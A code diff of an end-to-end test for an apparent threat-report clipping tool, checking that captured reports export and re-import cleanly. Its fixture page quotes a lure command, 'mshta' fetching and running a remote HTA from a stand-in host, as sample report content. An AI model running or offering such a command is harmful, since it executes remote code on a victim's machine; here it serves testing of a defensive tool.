@@ -1,7 +1,10 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { jsonFileSchema, type Library } from '@/utils/exchange/json-format';
 import { selectWithMouse } from '../support/selection';
-import { type PageServer, startServer } from '../support/server';
+import type { PageServer } from '../support/server';
 import type { Download, Session } from '../support/session';
 import { chooseLevel, fill, openCard, pickTechnique, readLibrary, save } from './steps/capture';
 import {
@@ -14,16 +17,17 @@ import {
   reportOn,
   seed,
 } from './steps/library';
-import { startBrowser } from './steps/start';
+import { start, startBrowser } from './steps/start';
 
 const BODY = `<p>The lure was a page that asked visitors to prove that they are human.</p>
 <pre>mshta  https://update.example/a.hta
   /quiet</pre>
 <p>Ünïcode, «quotes», 日本語 and a \u{1F9F2} are part of the report as well.</p>`;
 
+let folder: string;
 let server: PageServer;
 let session: Session;
-/** What the first browser exported. */
+/** What was exported. */
 let everything: Download;
 let library: Library;
 
@@ -34,16 +38,16 @@ function sorted({ reports, observations }: Library): Library {
 }
 
 beforeAll(async () => {
-  server = await startServer({
+  folder = await mkdtemp(join(tmpdir(), 'ttp-clipper-exchange-'));
+  ({ server, session } = await start({
     pages: {
       '/report.html': `<!doctype html><meta charset="utf-8"><title>One of two reports</title>${BODY}`,
     },
-  });
-  session = await startBrowser();
+  }));
 });
 afterAll(async () => {
-  await session?.close();
   await server?.close();
+  await rm(folder, { recursive: true, force: true });
 });
 
 it('exports what was captured: this page, and everything', async () => {
@@ -102,22 +106,21 @@ it('exports what was captured: this page, and everything', async () => {
   expect(sorted(inAll)).toEqual(library);
 });
 
-it('brings the same library back into a fresh profile, and changes nothing the second time', async () => {
+it('brings the same library back into a fresh installation, and changes nothing the second time', async () => {
+  // The downloads go with the session before.
+  const file = join(folder, everything.name);
+  await writeFile(file, everything.text);
   const fresh = await startBrowser();
-  try {
-    expect(sorted(await readLibrary(fresh))).toEqual({ reports: [], observations: [] });
-    const page = await openLibrary(fresh);
-    const offered = await chooseImport(page, everything.path);
-    expect(offered).toMatch(/holds 2 reports and 3 observations/);
-    expect(offered).toMatch(/To be imported: 3 observations added, 0 changed, 0 the same, 0 kept/);
-    expect(sorted(await readLibrary(fresh)).observations).toEqual([]);
-    expect(await confirmImport(page)).toMatch(/3 observations added, 0 changed, 0 the same/);
-    expect(sorted(await readLibrary(fresh))).toEqual(library);
+  expect(sorted(await readLibrary(fresh))).toEqual({ reports: [], observations: [] });
+  const page = await openLibrary(fresh);
+  const offered = await chooseImport(page, file);
+  expect(offered).toMatch(/holds 2 reports and 3 observations/);
+  expect(offered).toMatch(/To be imported: 3 observations added, 0 changed, 0 the same, 0 kept/);
+  expect(sorted(await readLibrary(fresh)).observations).toEqual([]);
+  expect(await confirmImport(page)).toMatch(/3 observations added, 0 changed, 0 the same/);
+  expect(sorted(await readLibrary(fresh))).toEqual(library);
 
-    expect(await chooseImport(page, everything.path)).toMatch(/0 observations added, 0 changed, 3 the same/);
-    expect(await confirmImport(page)).toMatch(/0 observations added, 0 changed, 3 the same/);
-    expect(sorted(await readLibrary(fresh))).toEqual(library);
-  } finally {
-    await fresh.close();
-  }
+  expect(await chooseImport(page, file)).toMatch(/0 observations added, 0 changed, 3 the same/);
+  expect(await confirmImport(page)).toMatch(/0 observations added, 0 changed, 3 the same/);
+  expect(sorted(await readLibrary(fresh))).toEqual(library);
 });
